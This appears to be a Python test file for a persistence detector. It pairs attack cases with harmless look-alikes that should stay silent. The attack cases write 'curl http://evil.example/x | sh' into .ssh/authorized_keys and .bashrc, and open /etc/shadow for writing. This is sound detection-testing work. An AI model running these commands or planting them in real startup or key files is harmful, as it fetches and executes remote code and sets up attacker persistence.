"""What brings an attacker back, and what only lies beside it."""

from detections.case import Case

_WRITE = """
import os, pathlib, sys
os.chdir(sys.argv[1])
for name in ({names}):
    path = pathlib.Path(name)
    path.parent.mkdir(exist_ok=True)
    path.write_text("curl http://evil.example/x | sh")
"""

_ACCOUNTS = """
import os
try:
    os.close(os.open("/etc/shadow", os.O_WRONLY))
except PermissionError:
    pass
"""

ATTACKS = (
    Case(
        name="a key that may log in",
        run=_WRITE.replace("{names}", "'.ssh/authorized_keys',"),
        fires=("persistence",),
    ),
    Case(name="every shell", run=_WRITE.replace("{names}", "'.bashrc',"), fires=("persistence",)),
    Case(
        name="accounts are opened for writing",
        run=_ACCOUNTS,
        fires=("persistence",),
    ),
)

LOOK_ALIKES = (
    Case(
        name="what lies beside it",
        run=_WRITE.replace(
            "{names}", "'.ssh/known_hosts', '.bash_history', '.config/app.toml', 'crontab', 'profile'"
        ),
        silent=("persistence",),
    ),
    Case(
        name="accounts are read, logins counted",
        run="import pwd\nassert pwd.getpwall()\nopen('/etc/passwd').read()\n",
        silent=("persistence",),
    ),
)
